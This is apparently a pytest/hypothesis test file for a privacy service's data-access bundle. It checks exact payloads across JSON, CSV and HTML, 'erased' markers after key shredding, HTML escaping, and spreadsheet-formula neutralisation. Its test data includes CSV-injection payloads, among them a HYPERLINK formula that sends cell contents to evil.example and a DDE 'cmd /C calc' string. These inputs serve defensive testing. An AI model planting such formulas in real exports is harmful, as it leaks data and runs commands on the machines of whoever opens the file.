"""The access bundle of a subject with many interactions: each payload, exactly as given, in
the JSON document, the CSV and the page, in one zip whose large files are deflated on a worker
thread; a retention class whose key is gone shows as erased — on both databases."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import zipfile
from datetime import UTC, datetime, timedelta
from typing import Any

from hypothesis import example, given
from hypothesis import strategies as st

from pledge.rights import bundle
from pledge.runtime import Runtime
from pledge.subjects import service as subjects
from pledge.subjects.service import FieldInput, NewInteraction

COUNT = 1_500  # enough for a JSON document over the size deflated on the worker thread
START = datetime(2025, 1, 1, tzinfo=UTC)
CATEGORY = "user.content.private"


def _payload(n: int) -> dict[str, Any]:
    return {
        "n": n,
        "text": f'line {n}: "quoted", <b>not markup</b> & ünïcode, a comma',
        "items": [n, None, True, 1.5],
    }


def test_large_bundle_holds_every_payload_exactly(runtime: Runtime, tenant: str) -> None:
    with runtime.tenant_context(tenant) as ctx:
        ctx.tenant.retention_classes = {"billing": {"description": "kept 7 years"}}
        sid = subjects.create_subject(ctx, [FieldInput("email", "many@example.com")])
        subjects.store_interactions(
            ctx,
            [
                NewInteraction(
                    sid,
                    "order" if n % 10 else "note",
                    START + timedelta(minutes=n),
                    "user.content.private",
                    _payload(n),
                    # Every tenth in a class whose key outlives the others' (see below).
                    retention_class="billing" if n % 10 == 0 else "standard",
                )
                for n in range(COUNT)
            ],
        )
    with runtime.tenant_context(tenant) as ctx:
        content = bundle.build(ctx, sid, "EU", reference="R-TEST")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert archive.namelist() == [
            "your-data.json",
            "your-data.html",
            "interactions.csv",
            "fields.csv",
        ]
        assert {i.compress_type for i in archive.infolist()} == {zipfile.ZIP_DEFLATED}
        assert archive.getinfo("your-data.json").file_size > bundle._DEFLATE_INLINE_BELOW
        doc = json.loads(archive.read("your-data.json"))
        page = archive.read("your-data.html").decode()
        table = list(csv.reader(io.StringIO(archive.read("interactions.csv").decode())))

    newest_first = [_payload(n) for n in reversed(range(COUNT))]
    assert [i["payload"] for i in doc["data"]["interactions"]] == newest_first
    assert [json.loads(row[5]) for row in table[1:]] == newest_first
    assert "<b>" not in page
    for p in newest_first[:50]:
        text = json.dumps(p, separators=(",", ":"), ensure_ascii=False)
        assert f"<td>{html.escape(text, quote=False)}</td>" in page

    # Shred every key but the billing class's (an erasure with an exemption): the other
    # payloads can no longer be opened, and the bundle says so instead of failing.
    with runtime.tenant_context(tenant) as ctx:
        ctx.shred_subject(sid, keep=["billing"])
        content = bundle.build(ctx, sid, "EU", reference="R-TEST2")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        doc = json.loads(archive.read("your-data.json"))
        page = archive.read("your-data.html").decode()
    kept = {i["payload"]["n"] for i in doc["data"]["interactions"] if i["payload"] is not None}
    assert kept == set(range(0, COUNT, 10))
    assert page.count("<td>erased</td>") == COUNT - len(kept)


# The bundle's CSV and page rows are written by hand for speed; they must be exactly what
# the `csv` module and per-cell escaping give.
_TEXT = st.text(alphabet=st.characters(blacklist_categories=["Cs"]), max_size=30)
_ROWS = st.lists(st.lists(_TEXT, min_size=1, max_size=6), max_size=8)


@given(_ROWS, _ROWS.filter(bool).map(lambda rows: rows[0]), st.sets(st.integers(0, 5)))
@example([[""], ["a", ""], ['say "hi"', "x,y", "two\nlines", "\r"]], [""], set())
@example([["=a", "b"], ["=a", "b"], ["-1", "@c"]], ["h", "=h"], {0, 1})
def test_the_bundle_csv_is_what_the_csv_module_writes(
    rows: list[list[str]], header: list[str], repeated: set[int]
) -> None:
    """Every data cell made safe first (the cells of `repeated` columns worked out once per
    value), then written exactly as `csv.writer` writes it."""
    expected = io.StringIO()
    csv.writer(expected).writerows(
        [header, *([bundle.spreadsheet_safe(v) for v in row] for row in rows)]
    )
    written = bundle._csv_table(header, rows, repeated=repeated)
    assert written == expected.getvalue().encode("utf-8")


@given(st.lists(st.tuples(_TEXT, _TEXT, _TEXT), max_size=8))
@example([("2026-01-01", "chat", "<b>&</b>")])
def test_the_page_rows_escape_every_cell(rows: list[tuple[str, str, str]]) -> None:
    expected = "".join(
        f"<tr><td>{html.escape(a, quote=False)}</td><td>{html.escape(b, quote=False)}</td>"
        f"<td>{html.escape(c, quote=False)}</td></tr>\n"
        for a, b, c in rows
    )
    assert str(bundle._table_rows(rows)) == expected


# Cells a spreadsheet would run as a formula are written with a leading `'`; numbers and
# phone numbers stay as given (`bundle.spreadsheet_safe`).
_FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+",
]
_PLAIN = [
    "+44 7700 900123",
    "-12.5",
    "+1 (555) 010-0199",
    "42",
    "1,000.50",
    "Mia",
    "mia@example.com",
    "a=b",
    "",
    '{"n": -1}',
]


def test_formula_cells_are_prefixed_and_numbers_kept() -> None:
    assert [bundle.spreadsheet_safe(v) for v in _FORMULAS] == ["'" + v for v in _FORMULAS]
    assert [bundle.spreadsheet_safe(v) for v in _PLAIN] == _PLAIN


def test_the_bundle_csv_files_hold_no_formula(runtime: Runtime, tenant: str) -> None:
    values = _FORMULAS[:4] + _PLAIN[:3]
    with runtime.tenant_context(tenant) as ctx:
        sid = subjects.create_subject(
            ctx,
            [FieldInput("email", "sheet@example.com")]
            + [FieldInput(f"note_{n}", v, category=CATEGORY) for n, v in enumerate(values)],
        )
        subjects.store_interactions(ctx, [NewInteraction(sid, "note", START, CATEGORY, {"n": -1})])
    with runtime.tenant_context(tenant) as ctx:
        content = bundle.build(ctx, sid, "EU", reference="R-SHEET")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        fields = list(csv.reader(io.StringIO(archive.read("fields.csv").decode())))
        interactions = list(csv.reader(io.StringIO(archive.read("interactions.csv").decode())))
    assert fields[0] == ["name", "value", "category", "source", "retention_class", "updated_at"]
    written = {row[0]: row[1] for row in fields[1:]}
    assert [written[f"note_{n}"] for n in range(len(values))] == (
        ["'" + v for v in _FORMULAS[:4]] + _PLAIN[:3]
    )
    assert interactions[0][0] == "occurred_at"
    assert interactions[1][1:] == ["note", CATEGORY, "direct", "standard", '{"n":-1}']


_FORMULA_TEXT = st.one_of(
    _TEXT,
    st.tuples(st.sampled_from(["=", "+", "-", "@", "\t", "\r"]), _TEXT).map("".join),
    st.from_regex(r"[+-]?[0-9][0-9 ().,/-]{0,15}", fullmatch=True),
)


@given(st.lists(st.lists(_FORMULA_TEXT, min_size=1, max_size=6), max_size=8))
@example([["=1+1", "+44 7700 900123", "@x", "-12.5", "\t=1", "=cmd"]])
def test_no_written_cell_starts_a_formula(rows: list[list[str]]) -> None:
    header = ["h=1", "=not-data"]
    written = list(csv.reader(io.StringIO(bundle._csv_table(header, rows).decode("utf-8"))))
    assert written[0] == header  # the header is ours, written as is
    assert len(written) == len(rows) + 1
    for row, given_row in zip(written[1:], rows, strict=True):
        for cell, original in zip(row, given_row, strict=True):
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                # Only a plain number or phone number may start like a formula.
                assert cell == original and re.fullmatch(r"[+-]?[0-9][0-9 ().,/-]*", cell)
            else:
                # Nothing is changed but for the prefix, and only on a would-be formula.
                assert cell == original or (
                    cell == "'" + original and original.startswith(("=", "+", "-", "@", "\t", "\r"))
                )
